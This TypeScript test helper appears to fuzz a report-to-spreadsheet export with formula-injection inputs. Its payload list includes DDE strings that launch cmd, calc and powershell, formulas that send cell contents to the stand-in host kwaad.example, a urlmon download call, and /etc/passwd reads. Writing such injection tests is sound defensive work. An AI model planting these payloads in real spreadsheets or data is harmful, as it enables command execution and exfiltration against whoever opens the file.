import type { Report, ReportAction } from "../../src/report/model.ts";
import type { Chance } from "./chance.ts";

/*
 * What somebody types who wants a spreadsheet to run it: formulas behind every sign, blank, quote and separator that hides them, cells that would end
 * a cell, and texts that are longer than a cell.
 */

type Some = readonly [string, ...string[]];

const signs: Some = ["=", "=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", "|", "%", "{="];

/** What stands before a sign and may be taken away by whoever reads it. */
const veils: Some = [
  "",
  "",
  "",
  " ",
  "   ",
  "\t",
  "\r",
  "\n",
  "\r\n",
  "\u000b",
  "\u0000",
  "\u0085",
  "\u00a0",
  "\u00ad",
  "\u200b",
  "\u2028",
  "\u202e",
  "\u3000",
  "\ufeff",
  "'",
  '"',
  '""',
  '"\n',
  ";",
  ",",
  '";"',
  '","',
  '",',
  "\n,",
  "x\ny,",
  "x\ny;",
  'x\n",',
  "1,",
  "_x000D_",
];

const payloads: Some = [
  "1+1",
  "5",
  "A1",
  "SUM(1;2)",
  "SUM(1,2)",
  "2+3+cmd|' /C calc'!A0",
  "cmd|' /C calc'!A0",
  "cmd|'/c powershell'!_xlbgnm.A1",
  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
  'DDE("soffice";"/etc/passwd";"A1")',
  'HYPERLINK("http://kwaad.example/?x="&A1;"klik")',
  'HYPERLINK("http://kwaad.example/?x="&A1,"klik")',
  'WEBSERVICE("http://kwaad.example/"&A1)',
  'IMPORTXML(CONCAT("http://kwaad.example/",A1),"//a")',
  'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://kwaad.example","x",0,0)',
  "'file:///etc/passwd'#$Blad1.A1",
];

/** What may stand between: ends of cells and rows, markup, codes that another program reads as a sign. */
const pieces: Some = [
  "",
  " ",
  "de buurt",
  "Een plan, samen; met wie?",
  "€ 25,- per keer",
  ";",
  ",",
  '"',
  "'",
  '"";""',
  "\n",
  "\r\n",
  "\n\n\n",
  "\ufeff",
  "😀",
  "é",
  "\ud800",
  "\uffff",
  "\ufdd0",
  "\u{1fffe}",
  "_x003D_1+1",
  "_x0000_",
  "&#61;1+1",
  "</t></si><f>1+1</f>",
  "]]>",
  "{{count}} $t(brand)",
  "007",
  "1e5",
  "2026-01-02",
  "12-3",
  "TRUE",
  "#REF!",
];

export function hostileCell(chance: Chance): string {
  const parts: string[] = [];
  for (let times = chance.below(3); times >= 0; times -= 1) {
    if (chance.below(4) === 0) parts.push(chance.pick(pieces));
    parts.push(chance.pick(veils), chance.pick(veils), chance.pick(signs), chance.pick(payloads));
    if (chance.below(3) === 0) parts.push(chance.pick(pieces));
  }
  const text = parts.join("");
  const length = [0, 33_000, 2000][chance.below(300)] ?? 0;
  return length > text.length ? `${text} ${"=1+1 ".repeat(length / 5)}` : text;
}

/** How many hostile texts stand in each report. */
export const cellsInReport = 1000;

/** The report with a hostile text at each place that people type or an organisation writes: titles, notes, reasons, and all of an action. */
export function withHostileCells(report: Report, chance: Chance): Report {
  const [first] = report.actions;
  if (first === undefined) throw new Error("no action");
  let left = cellsInReport;
  const next = () => {
    left -= 1;
    return hostileCell(chance);
  };
  const steps = report.steps.map((step) => ({
    ...step,
    questions: step.questions.map((question) => ({
      ...question,
      title: next(),
      answer: { ...question.answer, note: next() },
    })),
  }));
  const questions = steps.flatMap((step) => step.questions);
  const more = () => (left > 0 ? next() : "");
  const actions: ReportAction[] = [];
  while (left > 0) {
    const about = questions[chance.below(questions.length)] ?? questions[0];
    const { id: question = "1a", title: questionTitle = "" } = about ?? {};
    const dueDate =
      chance.below(2) === 0 ? "" : `20${chance.below(80) + 20}-0${chance.below(9) + 1}-${chance.below(19) + 10}`;
    const id = `a${actions.length}`;
    actions.push({ ...first, id, question, questionTitle, what: next(), owner: more(), doneWhen: more(), dueDate });
  }
  return { ...report, steps, actions };
}
